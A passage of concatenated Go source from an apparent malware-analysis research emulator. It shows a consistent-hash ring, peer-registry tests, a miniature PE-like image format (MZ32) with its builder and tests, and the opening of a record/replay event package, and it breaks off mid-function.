// DefaultVirtualNodes is the ring points each node contributes. 64 keeps
// the assignment spread within a few percent of uniform for small fleets
// while the ring stays tiny (N*64 points).
const DefaultVirtualNodes = 64

// point is one virtual node on the ring.
type point struct {
	hash uint64
	node string
}

// Ring is a deterministic consistent-hash ring over node IDs. The
// assignment depends only on the node ID set (never on insertion order),
// and removing one of N nodes remaps only ~1/N of the key space — the
// property that makes peer churn cheap for a content-addressed cache.
// A Ring is immutable and safe for concurrent use.
type Ring struct {
	points []point
	nodes  []string // sorted, deduplicated
}

// ringPointHash places virtual node i of a node on the ring. The inputs
// are length-framed so (node, i) pairs can never collide by
// concatenation, and the domain tag keeps ring points and key hashes in
// separate hash domains.
func ringPointHash(node string, i int) uint64 {
	var idx [8]byte
	binary.BigEndian.PutUint64(idx[:], uint64(i))
	h := sha256.New()
	h.Write([]byte("faros-ring-v1\x00"))
	h.Write([]byte(node))
	h.Write([]byte{0})
	h.Write(idx[:])
	var sum [sha256.Size]byte
	return binary.BigEndian.Uint64(h.Sum(sum[:0])[:8])
}

// keyHash positions a shard key (spec hash, trace digest, cache key) on
// the ring.
func keyHash(key string) uint64 {
	h := sha256.New()
	h.Write([]byte("faros-key-v1\x00"))
	h.Write([]byte(key))
	var sum [sha256.Size]byte
	return binary.BigEndian.Uint64(h.Sum(sum[:0])[:8])
}

// NewRing builds a ring over the given node IDs with vnodes virtual
// nodes each (<=0 uses DefaultVirtualNodes). Duplicate IDs collapse;
// order does not matter. An empty node set yields an empty ring whose
// Owner returns "".
func NewRing(nodes []string, vnodes int) *Ring {
	if vnodes <= 0 {
		vnodes = DefaultVirtualNodes
	}
	uniq := make(map[string]struct{}, len(nodes))
	sorted := make([]string, 0, len(nodes))
	for _, n := range nodes {
		if _, ok := uniq[n]; ok || n == "" {
			continue
		}
		uniq[n] = struct{}{}
		sorted = append(sorted, n)
	}
	sort.Strings(sorted)
	r := &Ring{nodes: sorted}
	r.points = make([]point, 0, len(sorted)*vnodes)
	for _, n := range sorted {
		for i := 0; i < vnodes; i++ {
			r.points = append(r.points, point{hash: ringPointHash(n, i), node: n})
		}
	}
	// Ties (astronomically unlikely with 64-bit sha256 prefixes, but the
	// ring must be a total order) break by node ID so the assignment
	// stays set-deterministic.
	sort.Slice(r.points, func(i, j int) bool {
		if r.points[i].hash != r.points[j].hash {
			return r.points[i].hash < r.points[j].hash
		}
		return r.points[i].node < r.points[j].node
	})
	return r
}

// Nodes returns the ring's node IDs, sorted.
func (r *Ring) Nodes() []string {
	out := make([]string, len(r.nodes))
	copy(out, r.nodes)
	return out
}

// Len returns the number of distinct nodes on the ring.
func (r *Ring) Len() int { return len(r.nodes) }

// Points returns the total virtual-node count on the ring.
func (r *Ring) Points() int { return len(r.points) }

// walkFrom returns the index of the first ring point at or clockwise
// after the key's hash.
func (r *Ring) walkFrom(key string) int {
	h := keyHash(key)
	i := sort.Search(len(r.points), func(i int) bool { return r.points[i].hash >= h })
	if i == len(r.points) {
		i = 0 // wrap
	}
	return i
}

// Owner returns the node owning a shard key ("" on an empty ring).
func (r *Ring) Owner(key string) string {
	if len(r.points) == 0 {
		return ""
	}
	return r.points[r.walkFrom(key)].node
}

// Replicas returns up to n distinct nodes for a key in ring-walk order —
// the owner first, then each next distinct node clockwise. The walk
// order is the replica-selection and failover order: a reader that
// misses the owner tries the rest of the walk.
func (r *Ring) Replicas(key string, n int) []string {
	if len(r.points) == 0 || n <= 0 {
		return nil
	}
	if n > len(r.nodes) {
		n = len(r.nodes)
	}
	out := make([]string, 0, n)
	seen := make(map[string]struct{}, n)
	start := r.walkFrom(key)
	for i := 0; i < len(r.points) && len(out) < n; i++ {
		p := r.points[(start+i)%len(r.points)]
		if _, ok := seen[p.node]; ok {
			continue
		}
		seen[p.node] = struct{}{}
		out = append(out, p.node)
	}
	return out
}

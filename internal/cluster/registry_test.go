package cluster

import (
	"context"
	"errors"
	"sync"
	"testing"
	"time"
)

// fakeProbe is a scriptable ProbeFunc: each peer URL answers with its
// configured error (nil = healthy).
type fakeProbe struct {
	mu   sync.Mutex
	errs map[string]error
	n    int
}

func (f *fakeProbe) set(url string, err error) {
	f.mu.Lock()
	defer f.mu.Unlock()
	if f.errs == nil {
		f.errs = make(map[string]error)
	}
	f.errs[url] = err
}

func (f *fakeProbe) probe(_ context.Context, url string) error {
	f.mu.Lock()
	defer f.mu.Unlock()
	f.n++
	return f.errs[url]
}

func TestRegistryTransitions(t *testing.T) {
	fp := &fakeProbe{}
	fp.set("http://b", errors.New("connection refused"))
	r := NewRegistry(RegistryConfig{
		Peers: map[string]string{"a": "http://a", "b": "http://b"},
		Probe: fp.probe,
	})
	if r.Up("a") || r.Up("b") {
		t.Fatal("peers must report down before the first probe")
	}
	r.ProbeAll()
	if !r.Up("a") {
		t.Fatal("a probed healthy but reports down")
	}
	if r.Up("b") {
		t.Fatal("b probed unhealthy but reports up")
	}
	// b recovers; the next probe restores it.
	fp.set("http://b", nil)
	r.ProbeAll()
	if !r.Up("b") {
		t.Fatal("b recovered but reports down")
	}
	st := r.Status()
	if len(st) != 2 || st[0].Node != "a" || st[1].Node != "b" {
		t.Fatalf("Status() = %+v, want [a b] sorted", st)
	}
	if !st[0].Up || !st[1].Up || st[1].LastErr != "" {
		t.Fatalf("Status() after recovery = %+v", st)
	}
}

func TestRegistryMarkDown(t *testing.T) {
	fp := &fakeProbe{}
	r := NewRegistry(RegistryConfig{
		Peers: map[string]string{"a": "http://a"},
		Probe: fp.probe,
	})
	r.ProbeAll()
	if !r.Up("a") {
		t.Fatal("a should be up")
	}
	// A failed forward flips the peer down without waiting for a probe.
	r.MarkDown("a", "forward: connection reset")
	if r.Up("a") {
		t.Fatal("MarkDown must take effect immediately")
	}
	if st := r.Status(); st[0].LastErr != "forward: connection reset" {
		t.Fatalf("LastErr = %q", st[0].LastErr)
	}
	r.MarkDown("ghost", "no such peer") // unknown nodes are ignored
}

// TestRegistryBackoff pins the down-peer re-probe schedule: doubling from
// Interval, capped at MaxBackoff, each delay jittered into [d/2, d).
func TestRegistryBackoff(t *testing.T) {
	r := NewRegistry(RegistryConfig{
		Peers:      map[string]string{"a": "http://a"},
		Interval:   2 * time.Second,
		MaxBackoff: 10 * time.Second,
		Probe:      func(context.Context, string) error { return nil },
	})
	for failures, ideal := range map[int]time.Duration{
		1: 2 * time.Second,
		2: 4 * time.Second,
		3: 8 * time.Second,
		4: 10 * time.Second, // capped
		9: 10 * time.Second,
	} {
		for i := 0; i < 50; i++ { // jitter draws must all stay in-band
			r.mu.Lock()
			d := r.backoff(failures)
			r.mu.Unlock()
			if d < ideal/2 || d >= ideal {
				t.Fatalf("backoff(%d) = %v, want in [%v, %v)", failures, d, ideal/2, ideal)
			}
		}
	}
}

// TestRegistryJitterDeterministic: same seed, same jitter stream — fleet
// behavior in tests and replays is reproducible.
func TestRegistryJitterDeterministic(t *testing.T) {
	mk := func() []time.Duration {
		r := NewRegistry(RegistryConfig{
			Peers: map[string]string{"a": "http://a"},
			Seed:  42,
			Probe: func(context.Context, string) error { return nil },
		})
		out := make([]time.Duration, 8)
		r.mu.Lock()
		for i := range out {
			out[i] = r.jitter(time.Second)
		}
		r.mu.Unlock()
		return out
	}
	a, b := mk(), mk()
	for i := range a {
		if a[i] != b[i] {
			t.Fatalf("draw %d: %v != %v with equal seeds", i, a[i], b[i])
		}
	}
}

// TestRegistryLoop smoke-tests the background loop end to end: a peer
// that starts down comes up once its probe starts succeeding.
func TestRegistryLoop(t *testing.T) {
	fp := &fakeProbe{}
	fp.set("http://a", errors.New("starting up"))
	r := NewRegistry(RegistryConfig{
		Peers:    map[string]string{"a": "http://a"},
		Interval: 20 * time.Millisecond,
		Probe:    fp.probe,
	})
	r.Start()
	defer r.Close()
	fp.set("http://a", nil)
	deadline := time.After(2 * time.Second)
	for !r.Up("a") {
		select {
		case <-deadline:
			t.Fatal("peer never came up")
		case <-time.After(5 * time.Millisecond):
		}
	}
}

// Package peimg defines MZ32, the miniature Portable-Executable-like image
// format of the WinMini guest.
//
// An MZ32 image carries named sections with page permissions, an import
// table of (API name hash, thunk address) pairs that the loader resolves
// against the kernel export table, and an export table for DLL images. The
// format exists so that executables are real byte artifacts: they live in
// the guest filesystem, carry file taint when loaded, can be parsed by the
// malfind baseline, and can be hollowed out and replaced in memory.
package peimg

import (
	"bytes"
	"encoding/binary"
	"fmt"

	"faros/internal/mem"
)

// Magic identifies an MZ32 image ("MZ32" little endian).
const Magic uint32 = 0x32335A4D

// Canonical image layout constants shared with the loader.
const (
	// DefaultBase is the preferred load address of WinMini programs.
	DefaultBase uint32 = 0x00400000
	// IdataOff is the import-thunk section offset from base (page 0, rw-).
	IdataOff uint32 = 0x0000
	// TextOff is the code section offset from base (r-x).
	TextOff uint32 = 0x1000
	// DataOff is the mutable data section offset from base (rw-).
	DataOff uint32 = 0x00100000
	// ThunkSlot0 is the offset of the first import thunk within .idata.
	ThunkSlot0 uint32 = 0x10
	// MaxName bounds name lengths in the serialized form.
	MaxName = 255
)

// HashName hashes an API or export name (FNV-32a), standing in for the
// name-hash trick real reflective loaders use when walking export tables.
func HashName(s string) uint32 {
	const (
		offset32 = 2166136261
		prime32  = 16777619
	)
	h := uint32(offset32)
	for i := 0; i < len(s); i++ {
		h ^= uint32(s[i])
		h *= prime32
	}
	return h
}

// Section is one mapped region of the image.
type Section struct {
	Name string
	// VA is the section's offset from the image base.
	VA   uint32
	Perm mem.Perm
	// Data is the initialized content. Size may exceed len(Data); the
	// remainder is zero-filled (BSS-style).
	Data []byte
	Size uint32
	// DataFileOff is the offset of Data within the serialized image; set by
	// Unmarshal so the loader can map file taint onto the pages it copies.
	DataFileOff int
}

// MemSize returns the mapped size of the section in bytes.
func (s *Section) MemSize() uint32 {
	if s.Size > uint32(len(s.Data)) {
		return s.Size
	}
	return uint32(len(s.Data))
}

// Import is one entry of the import table.
type Import struct {
	// NameHash is HashName of the imported API.
	NameHash uint32
	// ThunkVA is the offset from base where the loader writes the resolved
	// address.
	ThunkVA uint32
	// Name is kept for diagnostics and reports; the loader resolves by hash.
	Name string
}

// Export is one entry of the export table.
type Export struct {
	NameHash uint32
	// VA is the exported entry point's offset from base.
	VA   uint32
	Name string
}

// Image is a parsed MZ32 binary.
type Image struct {
	Name     string
	Base     uint32
	Entry    uint32 // offset from Base
	Sections []Section
	Imports  []Import
	Exports  []Export
}

// TotalMapped returns the number of bytes of address space the image spans.
func (img *Image) TotalMapped() uint32 {
	var end uint32
	for i := range img.Sections {
		s := &img.Sections[i]
		if e := s.VA + s.MemSize(); e > end {
			end = e
		}
	}
	return end
}

// Section returns the named section, if present.
func (img *Image) Section(name string) *Section {
	for i := range img.Sections {
		if img.Sections[i].Name == name {
			return &img.Sections[i]
		}
	}
	return nil
}

// FindExport resolves an export by name hash.
func (img *Image) FindExport(hash uint32) (Export, bool) {
	for _, e := range img.Exports {
		if e.NameHash == hash {
			return e, true
		}
	}
	return Export{}, false
}

func putString(w *bytes.Buffer, s string) error {
	if len(s) > MaxName {
		return fmt.Errorf("peimg: name too long: %d", len(s))
	}
	w.WriteByte(byte(len(s)))
	w.WriteString(s)
	return nil
}

func getString(r *bytes.Reader) (string, error) {
	n, err := r.ReadByte()
	if err != nil {
		return "", err
	}
	buf := make([]byte, n)
	if _, err := r.Read(buf); err != nil {
		return "", err
	}
	return string(buf), nil
}

func putU32(w *bytes.Buffer, v uint32) {
	var tmp [4]byte
	binary.LittleEndian.PutUint32(tmp[:], v)
	w.Write(tmp[:])
}

func getU32(r *bytes.Reader) (uint32, error) {
	var tmp [4]byte
	if _, err := r.Read(tmp[:]); err != nil {
		return 0, err
	}
	return binary.LittleEndian.Uint32(tmp[:]), nil
}

// Marshal serializes the image to its on-disk MZ32 form.
func (img *Image) Marshal() ([]byte, error) {
	var w bytes.Buffer
	putU32(&w, Magic)
	if err := putString(&w, img.Name); err != nil {
		return nil, err
	}
	putU32(&w, img.Base)
	putU32(&w, img.Entry)
	putU32(&w, uint32(len(img.Sections)))
	putU32(&w, uint32(len(img.Imports)))
	putU32(&w, uint32(len(img.Exports)))
	for i := range img.Sections {
		s := &img.Sections[i]
		if err := putString(&w, s.Name); err != nil {
			return nil, err
		}
		putU32(&w, s.VA)
		w.WriteByte(byte(s.Perm))
		putU32(&w, s.Size)
		putU32(&w, uint32(len(s.Data)))
		w.Write(s.Data)
	}
	for _, im := range img.Imports {
		putU32(&w, im.NameHash)
		putU32(&w, im.ThunkVA)
		if err := putString(&w, im.Name); err != nil {
			return nil, err
		}
	}
	for _, ex := range img.Exports {
		putU32(&w, ex.NameHash)
		putU32(&w, ex.VA)
		if err := putString(&w, ex.Name); err != nil {
			return nil, err
		}
	}
	return w.Bytes(), nil
}

// Unmarshal parses an MZ32 image. It validates the magic and structural
// sanity so the loader can reject corrupted or hollow files.
func Unmarshal(data []byte) (*Image, error) {
	r := bytes.NewReader(data)
	magic, err := getU32(r)
	if err != nil || magic != Magic {
		return nil, fmt.Errorf("peimg: bad magic %#x", magic)
	}
	img := &Image{}
	if img.Name, err = getString(r); err != nil {
		return nil, fmt.Errorf("peimg: name: %w", err)
	}
	if img.Base, err = getU32(r); err != nil {
		return nil, err
	}
	if img.Entry, err = getU32(r); err != nil {
		return nil, err
	}
	nsec, err := getU32(r)
	if err != nil {
		return nil, err
	}
	nimp, err := getU32(r)
	if err != nil {
		return nil, err
	}
	nexp, err := getU32(r)
	if err != nil {
		return nil, err
	}
	const maxEntries = 4096
	if nsec > maxEntries || nimp > maxEntries || nexp > maxEntries {
		return nil, fmt.Errorf("peimg: implausible entry counts %d/%d/%d", nsec, nimp, nexp)
	}
	for i := uint32(0); i < nsec; i++ {
		var s Section
		if s.Name, err = getString(r); err != nil {
			return nil, fmt.Errorf("peimg: section %d: %w", i, err)
		}
		if s.VA, err = getU32(r); err != nil {
			return nil, err
		}
		perm, err := r.ReadByte()
		if err != nil {
			return nil, err
		}
		s.Perm = mem.Perm(perm)
		if s.Size, err = getU32(r); err != nil {
			return nil, err
		}
		dlen, err := getU32(r)
		if err != nil {
			return nil, err
		}
		if int(dlen) > r.Len() {
			return nil, fmt.Errorf("peimg: section %q data truncated", s.Name)
		}
		s.DataFileOff = len(data) - r.Len()
		s.Data = make([]byte, dlen)
		if _, err := r.Read(s.Data); err != nil {
			return nil, err
		}
		img.Sections = append(img.Sections, s)
	}
	for i := uint32(0); i < nimp; i++ {
		var im Import
		if im.NameHash, err = getU32(r); err != nil {
			return nil, err
		}
		if im.ThunkVA, err = getU32(r); err != nil {
			return nil, err
		}
		if im.Name, err = getString(r); err != nil {
			return nil, err
		}
		img.Imports = append(img.Imports, im)
	}
	for i := uint32(0); i < nexp; i++ {
		var ex Export
		if ex.NameHash, err = getU32(r); err != nil {
			return nil, err
		}
		if ex.VA, err = getU32(r); err != nil {
			return nil, err
		}
		if ex.Name, err = getString(r); err != nil {
			return nil, err
		}
		img.Exports = append(img.Exports, ex)
	}
	return img, nil
}

// IsImage cheaply tests whether data begins with the MZ32 magic. Both the
// loader and the malfind baseline use it.
func IsImage(data []byte) bool {
	return len(data) >= 4 && binary.LittleEndian.Uint32(data) == Magic
}

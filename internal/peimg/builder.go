package peimg

import (
	"fmt"
	"sort"

	"faros/internal/isa"
	"faros/internal/mem"
)

// Builder assembles a WinMini program into an MZ32 image with the canonical
// layout:
//
//	base + IdataOff  .idata  rw-  import thunk table (loader-resolved)
//	base + TextOff   .text   r-x  code (and read-only constants)
//	base + DataOff   .data   rw-  mutable data and static buffers
//
// The fixed section offsets mean thunk and data addresses are known while
// code is being emitted, so no relocation pass is needed.
type Builder struct {
	// Name is the program name recorded in the image.
	Name string
	// Base is the preferred load address.
	Base uint32
	// Text is the code block. Emit code here; use CallImport for API calls.
	Text *isa.Block
	// DataBlk is the mutable data block mapped at Base+DataOff. Define
	// labeled data here *before* referencing it from code via DataVA.
	DataBlk *isa.Block

	bssSize     uint32
	imports     []Import
	importSlots map[string]uint32 // name → thunk VA (absolute)
	exports     []Export          // VA filled at Build from text labels
	exportLbls  []string
	entryLabel  string
}

// NewBuilder returns a Builder for a program with the default base.
func NewBuilder(name string) *Builder {
	return &Builder{
		Name:        name,
		Base:        DefaultBase,
		Text:        isa.NewBlock(),
		DataBlk:     isa.NewBlock(),
		importSlots: make(map[string]uint32),
	}
}

// ImportThunk declares an import and returns the absolute VA of its thunk
// slot (where the loader writes the resolved API address).
func (b *Builder) ImportThunk(api string) uint32 {
	if va, ok := b.importSlots[api]; ok {
		return va
	}
	va := b.Base + IdataOff + ThunkSlot0 + uint32(len(b.imports))*4
	b.imports = append(b.imports, Import{NameHash: HashName(api), ThunkVA: va - b.Base, Name: api})
	b.importSlots[api] = va
	return va
}

// CallImport emits a call to an imported API through its thunk. EDI is the
// linkage scratch register and is clobbered; arguments follow the WinMini
// convention (EBX, ECX, EDX, ESI) and the result returns in EAX.
func (b *Builder) CallImport(api string) *Builder {
	thunk := b.ImportThunk(api)
	b.Text.Movi(isa.EDI, thunk)
	b.Text.Ld(isa.EDI, isa.EDI, 0)
	b.Text.CallReg(isa.EDI)
	return b
}

// TextVA returns the absolute VA of a label in the text block. Valid only
// after the label has been defined.
func (b *Builder) TextVA(label string) (uint32, error) {
	off, ok := b.Text.LabelOffset(label)
	if !ok {
		return 0, fmt.Errorf("peimg: text label %q not defined", label)
	}
	return b.Base + TextOff + uint32(off), nil
}

// DataVA returns the absolute VA of a label in the data block. Valid only
// after the label has been defined (emit data before code that uses it).
func (b *Builder) DataVA(label string) (uint32, error) {
	off, ok := b.DataBlk.LabelOffset(label)
	if !ok {
		return 0, fmt.Errorf("peimg: data label %q not defined", label)
	}
	return b.Base + DataOff + uint32(off), nil
}

// MustDataVA is DataVA panicking on error; for test-covered sample builders.
func (b *Builder) MustDataVA(label string) uint32 {
	va, err := b.DataVA(label)
	if err != nil {
		panic(err)
	}
	return va
}

// BSS reserves n zeroed bytes at the end of .data and returns their VA.
func (b *Builder) BSS(n uint32) uint32 {
	// BSS space lives after the emitted data, page-aligned growth handled at
	// Build; track only the extra size here.
	va := b.Base + DataOff + uint32(b.DataBlk.Len()) + b.bssSize
	b.bssSize += n
	return va
}

// SetEntry selects a text label as the entry point (default: text start).
func (b *Builder) SetEntry(label string) { b.entryLabel = label }

// AddExport exposes a text label in the image export table (for DLLs).
func (b *Builder) AddExport(name, label string) {
	b.exports = append(b.exports, Export{NameHash: HashName(name), Name: name})
	b.exportLbls = append(b.exportLbls, label)
}

// Build assembles the blocks and produces the image.
func (b *Builder) Build() (*Image, error) {
	text, err := b.Text.Assemble(b.Base + TextOff)
	if err != nil {
		return nil, fmt.Errorf("peimg: %s: text: %w", b.Name, err)
	}
	if uint32(len(text)) > DataOff-TextOff {
		return nil, fmt.Errorf("peimg: %s: text too large: %d bytes", b.Name, len(text))
	}
	data, err := b.DataBlk.Assemble(b.Base + DataOff)
	if err != nil {
		return nil, fmt.Errorf("peimg: %s: data: %w", b.Name, err)
	}

	entry := TextOff
	if b.entryLabel != "" {
		off, ok := b.Text.LabelOffset(b.entryLabel)
		if !ok {
			return nil, fmt.Errorf("peimg: %s: entry label %q not defined", b.Name, b.entryLabel)
		}
		entry = TextOff + uint32(off)
	}

	img := &Image{Name: b.Name, Base: b.Base, Entry: entry}

	// .idata sized to hold all thunks (at least one page).
	idataSize := ThunkSlot0 + uint32(len(b.imports))*4
	img.Sections = append(img.Sections, Section{
		Name: ".idata", VA: IdataOff, Perm: mem.PermRW, Size: idataSize,
	})
	img.Sections = append(img.Sections, Section{
		Name: ".text", VA: TextOff, Perm: mem.PermRX, Data: text,
	})
	if len(data) > 0 || b.bssSize > 0 {
		img.Sections = append(img.Sections, Section{
			Name: ".data", VA: DataOff, Perm: mem.PermRW,
			Data: data, Size: uint32(len(data)) + b.bssSize,
		})
	}

	img.Imports = append(img.Imports, b.imports...)
	sort.Slice(img.Imports, func(i, j int) bool { return img.Imports[i].ThunkVA < img.Imports[j].ThunkVA })

	for i, ex := range b.exports {
		off, ok := b.Text.LabelOffset(b.exportLbls[i])
		if !ok {
			return nil, fmt.Errorf("peimg: %s: export label %q not defined", b.Name, b.exportLbls[i])
		}
		ex.VA = TextOff + uint32(off)
		img.Exports = append(img.Exports, ex)
	}
	return img, nil
}

// BuildBytes assembles and marshals in one step.
func (b *Builder) BuildBytes() ([]byte, error) {
	img, err := b.Build()
	if err != nil {
		return nil, err
	}
	return img.Marshal()
}

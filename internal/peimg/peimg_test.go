package peimg

import (
	"testing"
	"testing/quick"

	"faros/internal/isa"
	"faros/internal/mem"
)

func TestHashNameStableAndDistinct(t *testing.T) {
	if HashName("WriteFile") != HashName("WriteFile") {
		t.Error("hash not deterministic")
	}
	names := []string{"LoadLibraryA", "GetProcAddress", "VirtualAlloc", "WriteFile", "ReadFile", "Socket", "Connect"}
	seen := make(map[uint32]string)
	for _, n := range names {
		h := HashName(n)
		if prev, dup := seen[h]; dup {
			t.Errorf("hash collision: %q vs %q", n, prev)
		}
		seen[h] = n
	}
	if HashName("") == 0 {
		t.Error("empty hash is zero (FNV offset expected)")
	}
}

func TestMarshalUnmarshalRoundTrip(t *testing.T) {
	img := &Image{
		Name:  "test.exe",
		Base:  DefaultBase,
		Entry: TextOff + 8,
		Sections: []Section{
			{Name: ".idata", VA: IdataOff, Perm: mem.PermRW, Size: 0x20},
			{Name: ".text", VA: TextOff, Perm: mem.PermRX, Data: []byte{1, 2, 3, 4}},
			{Name: ".data", VA: DataOff, Perm: mem.PermRW, Data: []byte("hi"), Size: 100},
		},
		Imports: []Import{{NameHash: HashName("WriteFile"), ThunkVA: 0x10, Name: "WriteFile"}},
		Exports: []Export{{NameHash: HashName("Run"), VA: TextOff, Name: "Run"}},
	}
	raw, err := img.Marshal()
	if err != nil {
		t.Fatal(err)
	}
	if !IsImage(raw) {
		t.Fatal("IsImage rejects marshaled image")
	}
	got, err := Unmarshal(raw)
	if err != nil {
		t.Fatal(err)
	}
	if got.Name != img.Name || got.Base != img.Base || got.Entry != img.Entry {
		t.Errorf("header mismatch: %+v", got)
	}
	if len(got.Sections) != 3 || got.Sections[2].Size != 100 || string(got.Sections[2].Data) != "hi" {
		t.Errorf("sections mismatch: %+v", got.Sections)
	}
	if len(got.Imports) != 1 || got.Imports[0].Name != "WriteFile" {
		t.Errorf("imports mismatch: %+v", got.Imports)
	}
	if len(got.Exports) != 1 || got.Exports[0].VA != TextOff {
		t.Errorf("exports mismatch: %+v", got.Exports)
	}
}

func TestUnmarshalRejectsGarbage(t *testing.T) {
	cases := [][]byte{
		nil,
		{1, 2, 3},
		[]byte("not an image at all"),
		{0x4D, 0x5A, 0x33, 0x32}, // magic only, truncated
	}
	for i, c := range cases {
		if _, err := Unmarshal(c); err == nil {
			t.Errorf("case %d: garbage accepted", i)
		}
	}
	if IsImage([]byte{1, 2, 3, 4}) {
		t.Error("IsImage accepts junk")
	}
}

func TestUnmarshalTruncatedSection(t *testing.T) {
	img := &Image{Name: "x", Base: DefaultBase, Sections: []Section{
		{Name: ".text", VA: TextOff, Perm: mem.PermRX, Data: make([]byte, 64)},
	}}
	raw, err := img.Marshal()
	if err != nil {
		t.Fatal(err)
	}
	if _, err := Unmarshal(raw[:len(raw)-10]); err == nil {
		t.Error("truncated image accepted")
	}
}

func TestSectionHelpers(t *testing.T) {
	s := Section{Data: []byte{1, 2, 3}, Size: 10}
	if s.MemSize() != 10 {
		t.Errorf("MemSize = %d", s.MemSize())
	}
	s.Size = 0
	if s.MemSize() != 3 {
		t.Errorf("MemSize = %d", s.MemSize())
	}
	img := &Image{Sections: []Section{
		{Name: ".text", VA: TextOff, Data: make([]byte, 100)},
		{Name: ".data", VA: DataOff, Size: 200},
	}}
	if img.Section(".data") == nil || img.Section(".bogus") != nil {
		t.Error("Section lookup broken")
	}
	if img.TotalMapped() != DataOff+200 {
		t.Errorf("TotalMapped = %#x", img.TotalMapped())
	}
}

func TestBuilderLayout(t *testing.T) {
	b := NewBuilder("hello.exe")
	b.DataBlk.Label("msg").DataString("hello")
	bufVA := b.BSS(64)

	thunk1 := b.ImportThunk("WriteFile")
	thunk2 := b.ImportThunk("ExitProcess")
	if again := b.ImportThunk("WriteFile"); again != thunk1 {
		t.Error("duplicate import created a new thunk")
	}
	if thunk2 != thunk1+4 {
		t.Errorf("thunks not consecutive: %#x %#x", thunk1, thunk2)
	}
	if thunk1 != DefaultBase+IdataOff+ThunkSlot0 {
		t.Errorf("thunk0 VA = %#x", thunk1)
	}

	msgVA := b.MustDataVA("msg")
	if msgVA != DefaultBase+DataOff {
		t.Errorf("msg VA = %#x", msgVA)
	}
	if bufVA != DefaultBase+DataOff+6 { // "hello\0"
		t.Errorf("bss VA = %#x", bufVA)
	}

	b.Text.Label("_start")
	b.Text.Movi(isa.EBX, msgVA)
	b.CallImport("WriteFile")
	b.CallImport("ExitProcess")
	b.SetEntry("_start")

	img, err := b.Build()
	if err != nil {
		t.Fatal(err)
	}
	if img.Entry != TextOff {
		t.Errorf("entry = %#x", img.Entry)
	}
	if got := img.Section(".idata"); got == nil || got.MemSize() != ThunkSlot0+8 {
		t.Errorf("idata section: %+v", got)
	}
	if got := img.Section(".data"); got == nil || got.MemSize() != 6+64 {
		t.Errorf("data section: %+v", got)
	}
	if len(img.Imports) != 2 {
		t.Fatalf("imports = %+v", img.Imports)
	}
	// CallImport emits MOVI EDI, thunk; LD EDI,[EDI]; CALL EDI.
	text := img.Section(".text").Data
	in, err := isa.Decode(text[isa.InstrSize : 2*isa.InstrSize])
	if err != nil || in.Op != isa.OpMov || in.Imm != thunk1 {
		t.Errorf("CallImport MOVI = %+v, %v", in, err)
	}
}

func TestBuilderErrors(t *testing.T) {
	b := NewBuilder("x.exe")
	if _, err := b.DataVA("missing"); err == nil {
		t.Error("missing data label accepted")
	}
	if _, err := b.TextVA("missing"); err == nil {
		t.Error("missing text label accepted")
	}
	b.SetEntry("nowhere")
	b.Text.Nop()
	if _, err := b.Build(); err == nil {
		t.Error("missing entry label accepted")
	}

	b2 := NewBuilder("y.exe")
	b2.AddExport("Run", "undefined")
	b2.Text.Nop()
	if _, err := b2.Build(); err == nil {
		t.Error("missing export label accepted")
	}
}

func TestBuilderExports(t *testing.T) {
	b := NewBuilder("lib.dll")
	b.Text.Label("fn").Movi(isa.EAX, 1).Ret()
	b.AddExport("DoThing", "fn")
	img, err := b.Build()
	if err != nil {
		t.Fatal(err)
	}
	ex, ok := img.FindExport(HashName("DoThing"))
	if !ok || ex.VA != TextOff {
		t.Errorf("export = %+v, %v", ex, ok)
	}
	if _, ok := img.FindExport(HashName("Missing")); ok {
		t.Error("found missing export")
	}
}

func TestBuilderImageRoundTripsThroughBytes(t *testing.T) {
	b := NewBuilder("rt.exe")
	b.DataBlk.Label("d").Word(0x12345678)
	b.Text.Movi(isa.EAX, 0)
	b.CallImport("ExitProcess")
	raw, err := b.BuildBytes()
	if err != nil {
		t.Fatal(err)
	}
	img, err := Unmarshal(raw)
	if err != nil {
		t.Fatal(err)
	}
	if img.Name != "rt.exe" || img.Section(".text") == nil {
		t.Errorf("round trip: %+v", img)
	}
}

func TestMarshalPropertyNamesSurvive(t *testing.T) {
	f := func(nameRaw []byte) bool {
		name := string(nameRaw)
		if len(name) > MaxName {
			name = name[:MaxName]
		}
		img := &Image{Name: name, Base: DefaultBase}
		raw, err := img.Marshal()
		if err != nil {
			return false
		}
		got, err := Unmarshal(raw)
		return err == nil && got.Name == name
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 300}); err != nil {
		t.Fatal(err)
	}
}

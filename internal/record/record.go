// Package record implements PANDA-style record and replay for the
// whole-system VM.
//
// The guest CPU is fully deterministic; the only nondeterministic inputs are
// device events — network packet arrivals, keyboard input, audio frames —
// which the kernel injects at instruction-count timestamps. During a live
// run every delivered event is recorded with its delivery time; a replay
// preloads the log into the event queue and disables the live endpoints, so
// the guest re-executes bit-for-bit identically while analysis plugins (the
// FAROS DIFT engine) observe it. This mirrors how the paper runs FAROS: a
// recording pass, then a replay pass with taint analysis loaded.
package record

import (
	"fmt"
	"sort"
)

// EventKind classifies a nondeterministic input event.
type EventKind uint8

// Event kinds.
const (
	// EvPacketIn delivers network payload bytes to a flow's socket.
	EvPacketIn EventKind = iota + 1
	// EvKeyboard appends keystrokes to the keyboard device buffer.
	EvKeyboard
	// EvAudio appends samples to the audio-in device buffer.
	EvAudio
	// EvFlowClose closes the remote end of a flow.
	EvFlowClose
	// EvShutdown ends the run.
	EvShutdown
)

func (k EventKind) String() string {
	switch k {
	case EvPacketIn:
		return "packet-in"
	case EvKeyboard:
		return "keyboard"
	case EvAudio:
		return "audio"
	case EvFlowClose:
		return "flow-close"
	case EvShutdown:
		return "shutdown"
	}
	return "event?"
}

// Event is one nondeterministic input, stamped with the instruction count at
// which the kernel delivers it.
type Event struct {
	At   uint64
	Kind EventKind
	Flow uint32 // flow id for packet events
	Data []byte

	// Seq is the per-flow wire sequence number for packet events. The
	// fault injector may put several wire copies of one logical packet on
	// the wire (duplicates, corrupted attempts); they share a Seq so the
	// socket's reassembly buffer can dedup and reorder. Zero means the
	// event bypasses sequencing (scripted device input, legacy logs).
	Seq uint32
	// Sum is the checksum of the clean payload; a delivered copy whose
	// bytes do not hash to Sum was corrupted in transit and is discarded.
	// Zero means unchecked.
	Sum uint32
}

// Log is a completed recording. Serialization lives in internal/trace —
// the versioned trace wire format is the only encoding of an execution.
type Log struct {
	Scenario   string
	Events     []Event
	FinalInstr uint64
}

// Queue is a time-ordered event queue. The kernel pops due events between
// quanta; live endpoints and scenario scripts push future events.
type Queue struct {
	events []Event
}

// NewQueue returns a queue pre-seeded with events (sorted by time).
func NewQueue(events []Event) *Queue {
	q := &Queue{events: make([]Event, len(events))}
